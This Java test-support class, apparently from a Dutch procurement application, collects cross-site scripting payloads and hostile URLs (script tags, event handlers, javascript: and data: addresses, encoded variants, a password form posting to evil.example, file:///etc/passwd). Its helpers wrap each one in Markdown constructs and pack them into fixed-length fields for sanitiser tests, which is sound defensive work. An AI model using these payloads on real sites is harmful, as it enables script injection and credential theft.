package nl.inkoopkring.testing;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;

/** What people with bad intentions write: the corpus of promises 23 and 24. */
public final class HostileTexts {

    private static final List<String> MARKUP =
            List.of(
                    "<script>alert(1)</script>",
                    "<script src=//evil.example/x.js></script>",
                    "<ScRiPt>alert(1)</sCrIpT>",
                    "<script\n>alert(1)</script\n>",
                    "<scr<script>ipt>alert(1)</scr</script>ipt>",
                    "<img src=x onerror=alert(1)>",
                    "<img/src=x/onerror=alert(1)>",
                    "<img src=\"https://evil.example/pixel.gif\">",
                    "<img src=x onerror=\u0061lert(1)//",
                    "<svg onload=alert(1)>",
                    "<svg><script>alert(1)</script></svg>",
                    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
                    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
                    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
                    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                    "<iframe src=javascript:alert(1)></iframe>",
                    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
                    "<object data=javascript:alert(1)></object>",
                    "<embed src=javascript:alert(1)>",
                    "<body onload=alert(1)>",
                    "<form action=https://evil.example><input type=password name=p></form>",
                    "<input autofocus onfocus=alert(1)>",
                    "<button formaction=javascript:alert(1)>x</button>",
                    "<select autofocus onfocus=alert(1)>",
                    "<textarea autofocus onfocus=alert(1)>",
                    "<details open ontoggle=alert(1)>",
                    "<video><source onerror=alert(1)></video>",
                    "<audio src=x onerror=alert(1)>",
                    "<marquee onstart=alert(1)>",
                    "<style>body{display:none}</style>",
                    "<style>@import '//evil.example/x.css';</style>",
                    "<link rel=stylesheet href=//evil.example/x.css>",
                    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
                    "<base href=https://evil.example/>",
                    "<vaadin-login-overlay opened></vaadin-login-overlay>",
                    "<vaadin-button onclick=alert(1)>x</vaadin-button>",
                    "<template><script>alert(1)</script></template>",
                    "<a href=javascript:alert(1)>x</a>",
                    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
                    "<a href=https://ok.example onclick=alert(1)>x</a>",
                    "<p style=\"position:fixed;inset:0\">x</p>",
                    "<div style=background:url(javascript:alert(1))>x</div>",
                    "<!--><img src=x onerror=alert(1)>-->",
                    "<![CDATA[<script>alert(1)</script>]]>",
                    "<?xml version=\"1.0\"?><script>alert(1)</script>",
                    "</p><script>alert(1)</script>",
                    "<plaintext><script>alert(1)",
                    "<title><img src=x onerror=alert(1)></title>",
                    "<xss onpointerenter=alert(1) style=display:block>x</xss>",
                    "<table background=javascript:alert(1)><td>x",
                    "&lt;script&gt;alert(1)&lt;/script&gt;",
                    "&#60;script&#62;alert(1)&#60;/script&#62;",
                    "\\<script>alert(1)\\</script>",
                    "\u0000<script>alert(1)</script>",
                    "<\u0000script>alert(1)</script>");

    private static final List<String> ADDRESSES =
            List.of(
                    "javascript:alert(1)",
                    "JaVaScRiPt:alert(1)",
                    "javascript&colon;alert(1)",
                    "javascript&#58;alert(1)",
                    "&#106;avascript:alert(1)",
                    "java&#10;script:alert(1)",
                    "java\\script:alert(1)",
                    "\u0001javascript:alert(1)",
                    "%6Aavascript:alert(1)",
                    "javascript://ok.example/%0Aalert(1)",
                    "vbscript:msgbox(1)",
                    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
                    "data:image/svg+xml,<svg/onload=alert(1)>",
                    "file:///etc/passwd",
                    "blob:https://ok.example/1",
                    "filesystem:https://ok.example/x",
                    "view-source:https://ok.example",
                    "//evil.example",
                    "/\\evil.example",
                    "https://ok.example\"onmouseover=\"alert(1)",
                    "https://ok.example'onmouseover='alert(1)",
                    "https://ok.example\" style=\"position:fixed",
                    "https://ok.example/><script>alert(1)</script>",
                    "feed:javascript:alert(1)",
                    "ms-word:ofe|u|https://evil.example/x.docx",
                    "intent://x#Intent;scheme=javascript;end");

    /** Every piece of markup in the places Markdown has, and every address in the ways Markdown links. */
    public static Stream<String> inMarkdown() {
        var payloads = new LinkedHashSet<String>();
        for (var markup : MARKUP) {
            payloads.addAll(
                    List.of(
                            markup,
                            "tekst " + markup + " tekst",
                            "> " + markup,
                            "- " + markup,
                            "# " + markup,
                            "**" + markup + "**",
                            "`" + markup + "`",
                            "```" + markup + "\n" + markup + "\n```",
                            "[" + markup + "](https://ok.example)",
                            "![" + markup + "](https://ok.example/x.png)",
                            "[x](https://ok.example \"" + markup.replace("\"", "&quot;") + "\")"));
        }
        for (var address : ADDRESSES) {
            payloads.addAll(
                    List.of(
                            "[x](" + address + ")",
                            "[x](<" + address + ">)",
                            "[x][1]\n\n[1]: " + address,
                            "![x](" + address + ")",
                            "<" + address + ">",
                            address,
                            "[![x](" + address + ")](" + address + ")"));
        }
        return payloads.stream();
    }

    private HostileTexts() {}

    /** The pieces themselves, and with what ends an attribute or an element before them: for fields of one line. */
    public static List<String> plain() {
        var all = new ArrayList<String>();
        all.addAll(MARKUP);
        MARKUP.forEach(markup -> all.add("\"'>" + markup));
        all.addAll(ADDRESSES);
        ADDRESSES.forEach(address -> all.add("[x](" + address + ")"));
        return all.stream().map(HostileTexts::oneLine).distinct().toList();
    }

    private static String oneLine(String text) {
        return text.replaceAll("\\p{Cc}", " ").strip();
    }

    /**
     * All of {@link #plain()}, as few texts as go into fields of this length.
     *
     * @param length at least that of the longest piece
     * @param form what is made of each piece first
     */
    public static List<String> packed(int length, UnaryOperator<String> form) {
        var packed = new ArrayList<String>();
        var text = new StringBuilder();
        for (var piece : plain().stream().map(form).toList()) {
            if (!text.isEmpty() && text.length() + 1 + piece.length() > length) {
                packed.add(text.toString());
                text.setLength(0);
            }
            text.append(text.isEmpty() ? "" : " ").append(piece);
        }
        packed.add(text.toString());
        return List.copyOf(packed);
    }
}
